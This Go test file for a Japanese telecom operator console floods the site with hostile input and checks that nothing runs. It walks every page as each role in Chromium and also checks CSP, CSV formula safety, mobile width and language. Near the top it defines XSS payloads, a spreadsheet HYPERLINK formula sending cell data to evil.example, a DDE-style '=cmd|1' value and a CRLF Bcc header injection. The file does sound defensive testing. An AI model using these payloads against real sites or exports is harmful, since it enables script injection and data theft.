package story_test

import (
	"fmt"
	"io"
	"maps"
	"net/http"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"tsujiban/app/control"
	"tsujiban/console/consoletest"
	"tsujiban/console/ui"
	"tsujiban/inquiry"
	"tsujiban/ledger"
	"tsujiban/people"
)

// What strangers write. If a page ever runs a part of it, window.owned is set.
const (
	script  = `<script>window.owned=1</script><img src=x onerror="window.owned=1">`
	attr    = `" onmouseover="window.owned=1" autofocus onfocus="window.owned=1`
	formula = `=HYPERLINK("http://evil.example/?"&A1,"x")`
	header  = "x\r\nBcc: everybody@evil.example\r\n\r\n<b>"
)

// good are the answers of a holder who is taken.
var good = map[string]string{
	"purpose": "自社製品の購入者からの問い合わせを受ける窓口に使います", "channels": "4", "messages_per_month": "0", "numbers": "1", "bought_list": "no",
	"hides_both_numbers": "no", "resells": "no", "abroad": "no", "forwarding": "no", "met": "yes",
}

// written is a site that strangers, customers and staff have written all over: by calls over SIP and by every order that takes
// text. It returns what stands for the wildcards of paths.
func written(t *testing.T) (*consoletest.Site, map[string]string) {
	t.Helper()
	site := consoletest.Start(t, "")
	display := strings.ReplaceAll(strings.ReplaceAll(script, `"`, `\"`), "\r\n", "")
	for _, i := range []consoletest.Invite{
		{Dialled: "0312345678", From: `"` + display + `" <sip:0925551234@192.0.2.1>`, Agent: script},
		{Dialled: "010232771234567", Agent: formula, From: `"=1+1" <sip:0925551234@192.0.2.1>`},
		{Dialled: "010232771234568", Agent: attr, ID: "-" + "<script>window.owned=1</script>" + "@evil"},
		{Dialled: "<script>window.owned=1</script>"},
		{Dialled: "%3Cscript%3Ewindow.owned=1%3C/script%3E", Contact: "<sip:" + "%22onload=window.owned=1" + "@192.0.2.9>"},
		{Dialled: "=cmd|1", From: `<sip:<script>window.owned=1</script>@192.0.2.1>`},
		{Dialled: "010232771234569", From: `"x" <sip:=1+1@192.0.2.1>`},
	} {
		site.PBX.Send(i)
	}
	do(t, site, http.MethodPatch, firm, map[string]any{"name": script, "contact": "soumu@hakata.example.jp"}, nil)
	do(t, site, http.MethodPost, firm+"/answer", control.Answer{Note: script}, nil) // nothing stands yet: the answer restricts
	do(t, site, http.MethodPut, firm+"/restriction", control.Order{Level: "restrict", Reach: "232", Note: script + formula}, nil)
	site.PBX.Send(consoletest.Invite{Dialled: "010232771234570", Agent: script})
	var cases control.Suspicions
	site.Until(func() bool {
		do(t, site, http.MethodGet, "/v1/cases", nil, &cases)
		return len(cases.Cases) > 0
	})
	id := fmt.Sprint(cases.Cases[0].ID)
	do(t, site, http.MethodPost, "/v1/cases/"+id+"/note", control.CaseNote{Note: script}, nil)
	var c inquiry.Case
	do(t, site, http.MethodPost, "/v1/inquiries", control.InquiryOpen{Kind: "warrant", Agency: script, Officer: attr, Document: formula, Note: script, Numbers: []string{"092-555-1234"}}, &c)
	for path, in := range map[string]any{
		"/v1/ledger/holders/bulk": control.HolderChange{Add: true, Ground: formula, Fields: map[string]any{"name": script, "address": attr, "phone": "092-555-1234"}},
		"/v1/ledger/numbers":      control.NumberChange{Verb: "add", Numbers: []string{"050-1232-*"}, Source: script, Ground: script},
	} {
		do(t, site, http.MethodPost, path, in, nil)
	}
	do(t, site, http.MethodPost, "/v1/ledger/numbers", control.NumberChange{Verb: "test", Numbers: []string{"050-1232-5678"}, Ground: script}, nil)
	do(t, site, http.MethodPost, "/v1/ledger/holders/bulk/screen", control.ScreenOrder{Answers: good, Ground: script}, nil)
	do(t, site, http.MethodPost, "/v1/ledger/holders/bulk", control.HolderChange{Check: &ledger.Check{What: script, How: attr, By: formula}, Ground: script}, nil)
	do(t, site, http.MethodPost, "/v1/ledger/numbers", control.NumberChange{Verb: "assign", Numbers: []string{"050-1232-0003"}, Holder: "bulk", Ground: script}, nil)
	do(t, site, http.MethodPost, "/v1/ledger/cases", control.SuspensionRequest{Agency: script, Officer: attr, RequestNo: formula, Date: "2026-11-20", Numbers: []string{"050-1232-0003"}, Ground: script}, nil)
	do(t, site, http.MethodPut, "/v1/rules", control.RulesOrder{Closed: &[]string{"53"}, Note: script}, nil)
	do(t, site, http.MethodPost, "/v1/retention/holds", control.Hold{Customer: string(consoletest.Firm), Kind: "preservation", Ground: script}, nil)
	do(t, site, http.MethodDelete, "/v1/retention/holds/1", control.Order{Note: script}, nil)
	var viewer control.Staff
	if err := site.Socket.Do(t.Context(), http.MethodPost, "/v1/staff", control.Staff{Login: "ito@example.jp", Name: script, Role: "viewer"}, &viewer); err != nil {
		t.Fatal(err)
	}
	return site, map[string]string{
		"customer": string(consoletest.Firm), "holder": "bulk", "id": viewer.ID, "act": "release", "link": "AAAA", "look": "1", "what": "letter", "entry": "1", "step": "1",
		"/cases/{case}": id, "/inquiries/{case}": "1", "case": "1",
	}
}

var wildcard = regexp.MustCompile(`\{([^}]*)\}`)

// pathOf puts values for wildcards into a pattern.
func pathOf(pattern string, values map[string]string) string {
	for prefix, v := range values {
		if strings.HasPrefix(prefix, "/") && strings.HasPrefix(pattern, prefix) {
			pattern = strings.Replace(pattern, wildcard.FindString(prefix), v, 1)
		}
	}
	return wildcard.ReplaceAllStringFunc(pattern, func(w string) string {
		if v, ok := values[strings.Trim(w, "{}.$")]; ok {
			return v
		}
		return "1"
	})
}

// answer is what a path gives to who asks without script.
type answer struct {
	status  int
	kind    string
	policy  string
	body    string
	rebuilt http.Header
}

func fetch(t *testing.T, c *http.Client, at string) (a answer) {
	t.Helper()
	resp, err := c.Get(at)
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := resp.Body.Close(); err != nil {
			t.Error(err)
		}
	}()
	a = answer{status: resp.StatusCode, kind: resp.Header.Get("Content-Type"), policy: resp.Header.Get("Content-Security-Policy"), rebuilt: resp.Header}
	if strings.HasPrefix(a.kind, "text/event-stream") {
		return a
	}
	b, err := io.ReadAll(io.LimitReader(resp.Body, 8<<20))
	if err != nil {
		t.Fatal(err)
	}
	a.body = string(b)
	return a
}

// pagesOf are the paths that a role gets a page from, in the order of the table. What else there is is checked on the way.
func pagesOf(t *testing.T, site *consoletest.Site, role people.Role, values map[string]string) (pages []string) {
	t.Helper()
	c := site.Client(role)
	seen := map[string]bool{}
	for _, b := range site.App.ConsoleRoutes() {
		path := pathOf(b.Path, values)
		if b.Method != http.MethodGet || seen[path] {
			continue
		}
		seen[path] = true
		a := fetch(t, c, site.URL+path)
		if !strings.Contains(a.policy, "default-src 'none'") || strings.Contains(a.policy, "unsafe") {
			t.Errorf("%s as %v: policy %q", path, role, a.policy)
		}
		if a.status >= 500 {
			t.Errorf("%s as %v: %d\n%s", path, role, a.status, a.body)
		}
		switch {
		case strings.HasPrefix(a.kind, "text/html"):
			if strings.Contains(a.body, "<script>window") || strings.Contains(a.body, "<img src=x") || strings.Contains(a.body, `" onmouseover="window`) {
				t.Errorf("%s as %v: a stranger's text is markup", path, role)
			}
			if a.status == http.StatusOK {
				pages = append(pages, path)
			}
		case strings.HasPrefix(a.kind, "text/csv"):
			noFormula(t, path, a.body)
		}
	}
	return pages
}

// cell begins a cell of a table as programs that reckon read it.
var cell = regexp.MustCompile(`(?m)(?:^|,)"?[=+\-@\t\r]`)

// noFormula: no cell of a table that is handed out begins as a formula does. A number of its own may be negative or begin with +.
func noFormula(t *testing.T, path, text string) {
	t.Helper()
	for line := range strings.Lines(text) {
		for _, m := range cell.FindAllStringIndex(line, -1) {
			if rest := line[m[1]-1:]; !regexp.MustCompile(`^[+-][0-9.*]+"?(,|\r|\n|$)`).MatchString(rest) {
				t.Errorf("%s: a cell begins as a formula: %s", path, line)
			}
		}
	}
}

// TestEveryPage opens every page as each role in Chromium. Nothing that a stranger wrote runs, nobody is shut out, nothing is
// asked of another host, no page is wider than a phone, and no page is half in another language.
func TestEveryPage(t *testing.T) {
	site, values := written(t)
	b := site.Browse(t)
	looked := map[string]bool{}
	for _, role := range []people.Role{people.Administrator, people.InquiryOfficer, people.Analyst, people.Viewer, people.Reseller, people.CustomerRole, 0} {
		pages := pagesOf(t, site, role, values)
		if len(pages) == 0 {
			t.Errorf("%v sees no page", role)
			continue
		}
		t.Run(role.String(), func(t *testing.T) {
			t.Parallel()
			var tab *consoletest.Tab
			windows := []consoletest.Window{{Role: role, Lang: "ja", Colour: "light", Width: 390}, {Role: role, Lang: "en", Colour: "dark", Width: 1440}}
			if role == people.InquiryOfficer || role == people.Analyst || role == people.Viewer || role == people.Reseller {
				windows = windows[:1] // the rest is as the administrator and the customer see it
			}
			for n, w := range windows {
				check := (*consoletest.Tab).Check
				if (n > 0 || len(windows) == 1) && os.Getenv(consoletest.WindowsVar) != "all" {
					check = (*consoletest.Tab).Quick // axe takes a third of the time: once for those who see most, and each page's own test has it in its windows
				}
				for i, path := range pages {
					if tab == nil {
						tab = b.Open(t, w, path)
					} else if i == 0 {
						tab.Look(w)
					}
					tab.Go(path)
					check(tab)
					tab.Shot()
					if owned := tab.Eval(`String(window.owned)`); owned != "undefined" {
						t.Errorf("%s as %v: what a stranger wrote runs", path, role)
					}
					if w.Lang == "ja" {
						inJapanese(t, tab, path)
					}
				}
			}
		})
		for _, p := range pages {
			looked[p] = true
		}
	}
	t.Logf("%d pages: %v", len(looked), slices.Sorted(maps.Keys(looked)))
	for _, r := range site.App.ConsoleRoutes() {
		if p := pathOf(r.Path, values); r.Method == http.MethodGet && !looked[p] && isPage(&r) {
			t.Errorf("nobody was shown %s (%s)", p, r.Path)
		}
	}
}

// isPage: streams, files, links that are asked for once and ways to other services are no pages; and the pages of one's own
// account, which the walk of console/signin visits, need one.
func isPage(b *ui.Bound) bool {
	for _, part := range []string{"/live/", ".csv", "/csv", ".pdf", "/passkey", "/oidc", "{link}", "/account", "/prove"} {
		if strings.Contains(b.Path, part) {
			return false
		}
	}
	return !b.Slow && b.Path != "/portal" // which leads who has one customer on
}

// inJapanese finds texts of a page that are words of another language: three or more Latin words in a row that are not marked
// as such (lang), typed by somebody (code, fields), or a name.
func inJapanese(t *testing.T, tab *consoletest.Tab, path string) {
	t.Helper()
	found := tab.Eval(`(() => {
		const out = [];
		const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
		for (let n; n = walk.nextNode();) {
			const e = n.parentElement, text = n.data.trim();
			if (!text || /[\u3040-\u30ff\u4e00-\u9fff]/.test(text) || e.closest('script, style, code, pre, textarea, option, svg, [lang=en], .who, .typed')) continue;
			if (/(?:\b[A-Za-z]{2,}[,.;:]? +){2,}[A-Za-z]{2,}/.test(text)) out.push(text.slice(0, 120));
		}
		return out.join("\n");
	})()`)
	for text := range strings.Lines(found) {
		if foreign := !strings.Contains(text, "owned"); foreign {
			t.Errorf("%s: in the Japanese page stands %q", path, strings.TrimSpace(text))
		}
	}
}
